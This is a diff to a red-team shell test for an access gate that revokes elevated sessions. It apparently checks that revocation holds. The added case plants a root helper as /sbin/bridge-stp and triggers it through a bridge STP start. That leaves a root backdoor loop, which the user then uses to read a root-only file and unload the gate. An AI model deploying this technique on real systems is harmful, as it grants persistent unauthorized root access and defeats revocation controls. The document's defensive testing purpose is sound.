@@ -1,5 +1,5 @@
 #!/bin/sh
-# vm-args: --modules loop --net --timeout 1200
+# vm-args: --modules loop,bridge --net --timeout 1200
 # Red team: root's power used inside an elevated session that stays with the person's plain
 # processes after the revoke, through objects and settings the session does not own: her
 # user and network namespaces, her processes' /proc files, system-wide knobs, inotify and
@@ -35,6 +35,7 @@ chmod 0666 /srv/r4/fifo
 { echo loop-secret; dd if=/dev/zero bs=4096 count=1 2>/dev/null; } >/srv/r4/loopfile
 chmod 0600 /srv/r4/loopfile
 modprobe loop 2>/dev/null
+modprobe bridge 2>/dev/null
 modprobe virtio_pci 2>/dev/null
 modprobe virtio_net 2>/dev/null
 for _ in $(seq 100); do [ -e /sys/class/net/eth0 ] && break; sleep 0.1; done
@@ -249,6 +250,35 @@ t_epoll() {
 	wait_line /tmp/ep$1.out 'wakeup='
 }
 
+# M. a kernel helper that is missing: the kernel runs /sbin/bridge-stp as root (no login uid,
+# no session) when STP starts on a bridge of the host's network namespace. The session puts
+# one there; it leaves a root servant that runs the commands alice drops in a file.
+t_stp() {
+	rm -f /tmp/r4-cmd.$1 /tmp/r4-res.$1 /tmp/stp.$1 /tmp/stp-servant.$1
+	cat >/tmp/stp-helper.$1 <<HELPER
+#!/bin/sh
+PATH=/sbin:/bin:/usr/sbin:/usr/bin:/usr/local/bin
+echo "uid=\$(id -u) loginuid=\$(cat /proc/self/loginuid)" >/tmp/stp.$1
+(while :; do
+	if [ -f /tmp/r4-cmd.$1 ]; then sh /tmp/r4-cmd.$1 >/tmp/r4-res.$1 2>&1; rm -f /tmp/r4-cmd.$1; fi
+	sleep 0.5
+done) </dev/null >/dev/null 2>&1 &
+echo \$! >/tmp/stp-servant.$1
+exit 1
+HELPER
+	_g=$(grant stp)
+	sess sh -c "cat /tmp/stp-helper.$1 >/sbin/bridge-stp && chmod 0755 /sbin/bridge-stp && brctl addbr br$1 && echo 1 >/sys/class/net/br$1/bridge/stp_state && echo stp-on" \
+		>/tmp/stp$1.sess 2>&1
+	diag "$1 session plants /sbin/bridge-stp and starts STP: $(cat /tmp/stp$1.sess | tr '\n' ' ')"
+	revoke "$_g"
+	wait_line /tmp/stp.$1 uid=
+	diag "$1 the helper ran as: $(cat /tmp/stp.$1 2>/dev/null)"
+	with_loginuid 1000 as_user alice sh -c "echo 'cat /srv/r4/rootfile' >/tmp/r4-cmd.$1"
+	wait_line /tmp/r4-res.$1 .
+	with_loginuid 1000 as_user alice cat /tmp/r4-res.$1 >/tmp/stp$1.out 2>&1
+	echo "servant=$(alive "$(cat /tmp/stp-servant.$1 2>/dev/null)")" >>/tmp/stp$1.out
+}
+
 # ---------------------------------------------------------------- alone
 diag "alice alone"
 expect_eq "alone: alice cannot write a full map into her own user namespace" \
@@ -301,6 +331,12 @@ t_group nogate
 ok "no gate: /etc/group is her file: she puts herself in jitgate-admins" \
 	grep -q 'jitgate-admins:x:2002:carol,alice' /tmp/grnogate.out
 umount /etc/group 2>/dev/null
+t_stp nogate
+ok "no gate: the planted bridge-stp leaves a root servant: she reads root's 0600 file" \
+	grep -q 'root-only' /tmp/stpnogate.out
+kill "$(cat /tmp/stp-servant.nogate)" 2>/dev/null
+rm -f /sbin/bridge-stp
+brctl delbr brnogate 2>/dev/null
 grep -q alice /etc/group && diag "/etc/group after umount: $(grep jitgate-admins /etc/group)"
 
 # ---------------------------------------------------------------- the gate
@@ -364,6 +400,21 @@ if with_loginuid 1000 as_user alice jitgate grant --user alice --allow gate-admi
 fi
 stopped "revoked: /etc/group is not hers: she grants herself no gate-admin" /tmp/grgate.grant granted
 stopped "revoked: /etc/group does not name her in jitgate-admins" /tmp/grgate.out 'carol,alice'
+t_stp gate
+stopped "revoked: no root servant from the planted bridge-stp reads root's file for her" \
+	/tmp/stpgate.out 'root-only'
+stopped "revoked: no root process from the session's kernel helper lives on" \
+	/tmp/stpgate.out 'servant=alive'
+if grep -q 'servant=alive' /tmp/stpgate.out; then
+	# the servant is the host's automation: it may unload the gate
+	rm -f /tmp/r4-res.gate
+	with_loginuid 1000 as_user alice sh -c "echo '/usr/local/bin/jitgate unload' >/tmp/r4-cmd.gate"
+	wait_line /tmp/r4-res.gate .
+	sleep 2
+	diag "her unload through the servant: $(cat /tmp/r4-res.gate | tr '\n' ' ')"
+fi
+fails "after all of it the gate still denies alice the protected secret" \
+	with_loginuid 1000 as_user alice cat /srv/prod/secrets/db.pw
 
 settle
 grep -F '"tamper.deny"' "$AUDIT" | tail -n 8 | cut -c1-300 | sed 's/^/#   /'
